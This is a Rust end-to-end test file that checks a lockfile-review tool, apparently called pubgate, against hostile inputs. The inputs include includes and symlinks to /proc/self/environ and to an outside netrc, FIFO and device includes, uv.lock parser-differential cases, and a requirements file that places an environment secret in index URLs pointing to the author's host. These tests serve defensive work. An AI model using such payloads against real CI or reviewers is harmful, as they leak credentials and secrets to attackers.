//! Lockfiles and policies as an attack surface, through the binary: the change under
//! review controls their text, their symlinks and their includes. Nothing may read the
//! environment or files outside the repository into a report, hang on a FIFO, or send an
//! environment variable to an index the file names.

mod e2e_support;

use std::path::Path;
use std::time::Duration;

use e2e_support::{project, pubgate, Run};
use pubgate::testing::fake_pypi::{FakeFile, FakeIndex, FakePypi};

const SECRET: &str = "hunter2-T0KEN-d0-not-print";

/// `pubgate ARGS…` in `cwd` with a secret in the environment; fails the test if it hangs.
fn run(cwd: &Path, args: &[&str]) -> Run {
    let mut cmd = pubgate(cwd);
    cmd.env("PUBGATE_REVIEW_SECRET", SECRET)
        .env_remove("PUBGATE_EXPAND_ENV")
        .timeout(Duration::from_secs(60))
        .args(args);
    Run::of(cmd)
}

fn assert_secret_free(run: &Run) {
    assert!(
        !run.stdout.contains(SECRET) && !run.stderr.contains(SECRET),
        "the secret leaked:\n{}{}",
        run.stdout,
        run.stderr
    );
}

/// A directory that looks like a repository checkout.
fn repo(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = project(files);
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    dir
}

#[cfg(unix)]
fn symlink(target: impl AsRef<Path>, link: impl AsRef<Path>) {
    std::os::unix::fs::symlink(target, link).unwrap();
}

#[cfg(unix)]
#[test]
fn an_include_of_proc_self_environ_is_refused_and_never_echoed() {
    let dir = repo(&[("requirements.txt", "six==1.16.0\n-r /proc/self/environ\n")]);
    for args in [
        &["lock", "requirements.txt"][..],
        &["check", "requirements.txt", "--offline", "--no-cache"][..],
        &["check", "--offline", "--no-cache", "--format", "json"][..],
    ] {
        let out = run(dir.path(), args);
        assert_eq!(out.code, Some(2), "{args:?}: {}{}", out.stdout, out.stderr);
        assert!(out.stderr.contains("special file"), "{}", out.stderr);
        assert_secret_free(&out);
    }
}

#[cfg(unix)]
#[test]
fn a_lockfile_or_policy_symlinked_to_the_environment_is_refused() {
    // Git stores symlinks: a pull request can add them, and discovery would find them.
    let dir = repo(&[]);
    symlink("/proc/self/environ", dir.path().join("requirements.txt"));
    let out = run(dir.path(), &["check", "--offline", "--no-cache"]);
    assert_eq!(out.code, Some(2), "{}{}", out.stdout, out.stderr);
    assert_secret_free(&out);

    let dir = repo(&[("requirements.txt", "six==1.16.0\n")]);
    for policy in ["pubgate.toml", "pyproject.toml"] {
        let link = dir.path().join(policy);
        symlink("/proc/self/environ", &link);
        let out = run(dir.path(), &["check", "--offline", "--no-cache"]);
        assert_eq!(out.code, Some(2), "{policy}: {}{}", out.stdout, out.stderr);
        assert!(out.stderr.contains("special file"), "{}", out.stderr);
        assert_secret_free(&out);
        std::fs::remove_file(link).unwrap();
    }
}

#[cfg(unix)]
#[test]
fn files_outside_the_repository_are_not_read_through_includes_or_symlinks() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("netrc"),
        format!("machine github.com login x password {SECRET}\n"),
    )
    .unwrap();
    let secret_file = outside.path().join("netrc");
    let dir = repo(&[
        (
            "services/api/requirements.txt",
            "-r ../../common/base.txt\n",
        ),
        ("common/base.txt", "six==1.16.0\n"),
    ]);
    // A monorepo include stays inside the repository: fine.
    let out = run(dir.path(), &["lock", "services/api/requirements.txt"]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(out.stdout.contains("six"), "{}", out.stdout);

    // An absolute include, a `..` include and a symlink out of the tree are refused.
    let absolute = format!("-r {}\n", secret_file.display());
    let relative = {
        let up = "../".repeat(dir.path().components().count());
        format!(
            "-r {up}{}\n",
            secret_file.display().to_string().trim_start_matches('/')
        )
    };
    for text in [absolute, relative] {
        std::fs::write(dir.path().join("requirements.txt"), &text).unwrap();
        let out = run(dir.path(), &["lock", "requirements.txt"]);
        assert_eq!(out.code, Some(2), "{text}: {}{}", out.stdout, out.stderr);
        assert!(out.stderr.contains("outside"), "{}", out.stderr);
        assert_secret_free(&out);
    }
    std::fs::remove_file(dir.path().join("requirements.txt")).unwrap();
    symlink(&secret_file, dir.path().join("requirements.txt"));
    let out = run(dir.path(), &["check", "--offline", "--no-cache"]);
    assert_eq!(out.code, Some(2), "{}{}", out.stdout, out.stderr);
    assert_secret_free(&out);
    symlink(&secret_file, dir.path().join("pubgate.toml"));
    std::fs::remove_file(dir.path().join("requirements.txt")).unwrap();
    std::fs::write(dir.path().join("requirements.txt"), "six==1.16.0\n").unwrap();
    let out = run(dir.path(), &["check", "--offline", "--no-cache"]);
    assert_eq!(out.code, Some(2), "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("outside"), "{}", out.stderr);
    assert_secret_free(&out);
}

#[cfg(unix)]
#[test]
fn an_include_of_a_fifo_or_device_does_not_hang_or_exhaust_memory() {
    let dir = repo(&[]);
    let fifo = dir.path().join("pipe.txt");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .is_ok_and(|s| s.success());
    let mut targets = vec!["/dev/zero".to_string(), "/dev/stdin".to_string()];
    if made {
        targets.push("pipe.txt".to_string());
    }
    for target in targets {
        std::fs::write(
            dir.path().join("requirements.txt"),
            format!("-r {target}\n"),
        )
        .unwrap();
        let out = run(dir.path(), &["lock", "requirements.txt"]);
        assert_eq!(out.code, Some(2), "{target}: {}{}", out.stdout, out.stderr);
        assert!(
            out.stderr.contains("not a regular file"),
            "{target}: {}",
            out.stderr
        );
    }
    if made {
        // The FIFO named as the lockfile itself, too.
        let out = run(
            dir.path(),
            &["lock", "pipe.txt", "--lock-format", "requirements"],
        );
        assert_eq!(out.code, Some(2), "{}", out.stderr);
    }
}

#[test]
fn environment_variables_are_not_expanded_unless_allowed() {
    // pip expands `${NAME}` anywhere. In a file under review that sends any secret to the
    // author's index (in the URL path or as basic auth) and prints it in the report.
    let mut index = FakeIndex::new();
    index.add("six", FakeFile::new("six-1.16.0.tar.gz", &"ab".repeat(32)));
    let served = tempfile::tempdir().unwrap();
    index.write(served.path()).unwrap();
    let server = FakePypi::start(served.path()).unwrap();
    let hostile = format!(
        "--index-url http://${{PUBGATE_REVIEW_SECRET}}@127.0.0.1:{port}/simple\n\
         six==1.16.0\n\
         evil @ https://files.example/${{PUBGATE_REVIEW_SECRET}}/evil-1.0.tar.gz\n\
         -e ./${{PUBGATE_REVIEW_SECRET}}\n",
        port = server.addr().port()
    );
    let dir = repo(&[("requirements.txt", &hostile)]);
    for format in ["human", "json", "github", "markdown", "sarif"] {
        let out = run(
            dir.path(),
            &["check", "--no-cache", "--timeout", "5", "--format", format],
        );
        assert!(
            matches!(out.code, Some(0 | 1)),
            "{}{}",
            out.stdout,
            out.stderr
        );
        assert_secret_free(&out);
    }
    for request in server.requests() {
        let auth = request.authorization.unwrap_or_default();
        assert!(
            !request.path.contains(SECRET) && !auth.contains("aHVudGVy"),
            "the secret reached the index: {} {auth}",
            request.path
        );
    }

    // Listed in PUBGATE_EXPAND_ENV, a variable is expanded (as pip would): the user opted in.
    server.clear_log();
    let mut cmd = pubgate(dir.path());
    cmd.env("PUBGATE_REVIEW_SECRET", SECRET)
        .env("PUBGATE_EXPAND_ENV", "PUBGATE_REVIEW_SECRET")
        .args(["lock", "requirements.txt", "--format", "json"]);
    let out = Run::of(cmd);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(out.stdout.contains(SECRET), "expanded: {}", out.stdout);
}

#[test]
fn the_uv_fast_path_never_reads_a_different_package_set_than_toml() {
    // Lines crafted to look canonical to the fast path where TOML reads something else
    // (or nothing): both paths must give the same packages, or both refuse the file.
    let head = "version = 1\nrevision = 3\n\n[[package]]\nname = \"a\"\nversion = \"1.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n";
    let sha = "ab".repeat(32);
    let sdist = format!(
        "sdist = {{ url = \"https://f/a-1.0.tar.gz\", hash = \"sha256:{sha}\", size = 10 }}\n"
    );
    let wheel =
        format!("    {{ url = \"https://f/a-1.0-py3-none-any.whl\", hash = \"sha256:{sha}\" }},\n");
    let cases: Vec<String> = vec![
        // an sdist line inside a multi-line string: TOML sees text, not a table
        format!("{head}description = \"\"\"\n{sdist}\"\"\"\n"),
        format!("{head}description = '''\n{sdist}'''\n"),
        // a wheels block whose closing bracket is in a comment or a string
        format!("{head}wheels = [\n{wheel}# ]\n]\n"),
        format!("{head}wheels = [\n{wheel}    \"]\",\n]\n"),
        // the same artifact key twice, and the reference key forged
        format!("{head}{sdist}{sdist}"),
        format!("{head}sdist = {{ pubgate-fast-path-artifact = 0 }}\n"),
        format!("{head}wheels = {{ pubgate-fast-path-wheels = [0, 1] }}\n{sdist}"),
        // characters TOML refuses in basic strings, numbers it reads otherwise
        format!("{head}sdist = {{ url = \"https://f/a\u{7f}-1.0.tar.gz\", hash = \"sha256:{sha}\" }}\n"),
        format!("{head}sdist = {{ url = \"https://f/a-1.0.tar.gz\", size = 0x10 }}\n"),
        format!("{head}sdist = {{ url = \"https://f/a-1.0.tar.gz\", size = 1_0 }}\n"),
        format!("{head}sdist = {{ url = \"https://f/a-1.0.tar.gz\", size = 99999999999999999999 }}\n"),
        // a lone CR, a tab, a trailing comment
        format!("{head}sdist = {{ url = \"https://f/a-1.0.tar.gz\" }}\r{sdist}"),
        format!("{head}sdist = {{ url = \"https://f/a\t-1.0.tar.gz\", hash = \"sha256:{sha}\" }}\n"),
        format!("{head}sdist = {{ url = \"https://f/a-1.0.tar.gz\" }} # comment\n"),
        // artifact lines in tables the reader does not take artifacts from
        format!("{head}\n[package.metadata]\n{sdist}wheels = [\n{wheel}]\n"),
        format!("{head}\n[package.optional-dependencies]\nextra = [\n{wheel}]\n"),
        format!("{head}dependencies = [\n    {{ name = \"b\" }},\n    {{ name = \"b\" }},\n]\n{sdist}"),
        format!("{head}dependencies = [\n    {{ name = \"b\", name = \"c\" }},\n]\n{sdist}"),
        // the package table closed and reopened around the artifacts
        format!("{head}\n[[package]]\nname = \"b\"\nversion = \"2.0\"\nsource = {{ registry = \"https://pypi.org/simple\" }}\n{sdist}wheels = [\n{wheel}]\n"),
    ];
    for (i, text) in cases.iter().enumerate() {
        let path = Path::new("uv.lock");
        let fast = pubgate::lockfile::parse_str(text, path, None);
        let slow = pubgate::lockfile::parse_uv_without_fast_path(text, path);
        match (&fast, &slow) {
            (Ok(fast), Ok(slow)) => assert_eq!(fast, slow, "case {i}:\n{text}"),
            (Err(_), Err(_)) => {}
            _ => panic!("case {i} disagrees:\n{text}\nfast: {fast:?}\nslow: {slow:?}"),
        }
    }
}
